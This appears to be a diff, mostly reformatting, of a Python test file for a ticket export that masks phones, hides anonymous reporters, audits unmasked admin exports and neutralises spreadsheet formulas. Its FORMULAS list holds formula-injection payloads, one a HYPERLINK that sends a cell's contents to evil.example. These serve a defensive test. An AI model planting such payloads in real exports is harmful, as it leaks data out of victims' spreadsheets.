@@ -1,11 +1,12 @@
 """Ticket export: phones masked and anonymous reporters hidden unless an admin asks; an admin's
 export is bounded by the nodes of their admin grants and an unmasked one is audited; text that
 a spreadsheet would take for a formula is neutralised in CSV and XLSX."""
+
 from __future__ import annotations
 
 import argparse
 import csv
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
@@ -22,7 +23,7 @@ from storage.models import Account, AuditLog, Role, RoleGrant, Source
 from storage.uow import UowFactory
 from tests.storage.ticket_seed import add_ticket, demo_org
 
-NOV = datetime(2026, 11, 10, 2, tzinfo=timezone.utc)
+NOV = datetime(2026, 11, 10, 2, tzinfo=UTC)
 FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tTAB", "\rCR"]
 
 
@@ -30,8 +31,13 @@ async def seed(uow_factory: UowFactory) -> dict[str, int]:
     ids = await demo_org(uow_factory)
     async with uow_factory() as uow:
         people = {}
-        for name, phone in (("王秀兰", "13912345678"), ("李建国", "13698765432"), ("林涛", None),
-                            ("周强", None), ("马丽", None)):
+        for name, phone in (
+            ("王秀兰", "13912345678"),
+            ("李建国", "13698765432"),
+            ("林涛", None),
+            ("周强", None),
+            ("马丽", None),
+        ):
             acc = Account(display_name=name, phone=phone, created_at=uow.clock.now())
             uow.accounts.add(acc)
             await uow.flush()
@@ -42,18 +48,28 @@ async def seed(uow_factory: UowFactory) -> dict[str, int]:
         # an admin of one community (桃园社区: the compound TYXC only)
         uow.accounts.add(RoleGrant(account_id=people["马丽"], role=Role.admin, org_id=ids["BH-TY"]))
         await add_ticket(uow, "XGY", NOV, reporter_id=people["王秀兰"], description="named")
-        await add_ticket(uow, "LHY", NOV, reporter_id=people["李建国"], anonymous=True,
-                         description="anonymous")
-        await add_ticket(uow, "JGJY", NOV, source=Source.hotline, caller_phone="13812341234",
-                         external_ref="H-1", description="hotline", rating=3)
+        await add_ticket(
+            uow, "LHY", NOV, reporter_id=people["李建国"], anonymous=True, description="anonymous"
+        )
+        await add_ticket(
+            uow,
+            "JGJY",
+            NOV,
+            source=Source.hotline,
+            caller_phone="13812341234",
+            external_ref="H-1",
+            description="hotline",
+            rating=3,
+        )
         await add_ticket(uow, "TYXC", NOV, reporter_id=people["李建国"], anonymous=True, description="tyxc")
-        await add_ticket(uow, "FJY", datetime(2026, 9, 1, tzinfo=timezone.utc), description="old")
+        await add_ticket(uow, "FJY", datetime(2026, 9, 1, tzinfo=UTC), description="old")
         await uow.commit()
     return {**ids, **people}
 
 
-async def rows(uow_factory: UowFactory, viewer: int | None = None,
-               unmasked: bool = False) -> dict[str, ExportRow]:
+async def rows(
+    uow_factory: UowFactory, viewer: int | None = None, unmasked: bool = False
+) -> dict[str, ExportRow]:
     start, end = parse_period("2026Q4").bounds()
     async with uow_factory() as uow:
         grant = await authorize(uow, start, end, as_account=viewer, unmasked=unmasked)
@@ -72,10 +88,17 @@ async def test_masked_by_default(uow_factory: UowFactory) -> None:
     assert sorted(out) == ["anonymous", "hotline", "named", "tyxc"]  # "old" is in Q3
     assert (out["named"].reporter, out["named"].phone) == ("王秀兰", "13******678")
     assert (out["anonymous"].reporter_kind, out["anonymous"].reporter, out["anonymous"].phone) == (
-        "anonymous", None, None)
+        "anonymous",
+        None,
+        None,
+    )
     h = out["hotline"]
     assert (h.reporter_kind, h.phone, h.external_ref, h.satisfaction) == (
-        "hotline", "13******234", "H-1", "basic")
+        "hotline",
+        "13******234",
+        "H-1",
+        "basic",
+    )
     assert h.compound_code == "JGJY" and h.received_at == NOV
     assert await audit_rows(uow_factory) == []  # masked exports are not privileged reads
 
@@ -93,7 +116,9 @@ async def test_unmasked_is_bounded_by_the_admin_grant_and_audited(uow_factory: U
     assert sorted(masked) == ["tyxc"] and masked["tyxc"].phone is None
     log = await audit_rows(uow_factory)
     assert [(a.actor_id, a.action, a.params["orgs"], a.params["compounds"]) for a in log] == [
-        (ids["林涛"], AUDIT_ACTION, ["PG"], 5), (ids["马丽"], AUDIT_ACTION, ["BH-TY"], 1)]
+        (ids["林涛"], AUDIT_ACTION, ["PG"], 5),
+        (ids["马丽"], AUDIT_ACTION, ["BH-TY"], 1),
+    ]
     assert log[0].params["from"] == parse_period("2026Q4").bounds()[0].isoformat()
 
 
@@ -121,9 +146,17 @@ async def test_audit_rows_cannot_be_changed_or_removed(uow_factory: UowFactory) 
 
 
 def export_args(out: Path, fmt: str = "csv", **kw: Any) -> argparse.Namespace:
-    base: dict[str, Any] = dict(command="export", export_action="tickets", period=None,
-                                date_from="2026-10-01", date_to="2026-12-31", format=fmt, output=out,
-                                unmasked=False, as_account=None)
+    base: dict[str, Any] = dict(
+        command="export",
+        export_action="tickets",
+        period=None,
+        date_from="2026-10-01",
+        date_to="2026-12-31",
+        format=fmt,
+        output=out,
+        unmasked=False,
+        as_account=None,
+    )
     return argparse.Namespace(**{**base, **kw})
 
 
@@ -159,8 +192,15 @@ async def test_formula_text_is_neutralised_in_csv_and_xlsx(uow_factory: UowFacto
     await demo_org(uow_factory)
     async with uow_factory() as uow:
         for i, text in enumerate(FORMULAS):
-            await add_ticket(uow, "XGY", NOV, description=text, source=Source.hotline,
-                             external_ref=f"=1+{i}", caller_phone="+8613812341234")
+            await add_ticket(
+                uow,
+                "XGY",
+                NOV,
+                description=text,
+                source=Source.hotline,
+                external_ref=f"=1+{i}",
+                caller_phone="+8613812341234",
+            )
         await uow.commit()
     out_csv, out_xlsx = tmp_path / "t.csv", tmp_path / "t.xlsx"
     assert await run(export_args(out_csv), uow_factory, out=lambda _: None) == 0
@@ -178,5 +218,6 @@ async def test_formula_text_is_neutralised_in_csv_and_xlsx(uow_factory: UowFacto
     assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no cell is a formula
     texts = {str(c.value) for c in cells if c.value is not None}
     assert {f.replace("\r", "\n") for f in FORMULAS} <= texts  # shown as typed (XML reads CR as LF)
-    assert all(c.quotePrefix for c in cells
-               if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")))
+    assert all(
+        c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))
+    )
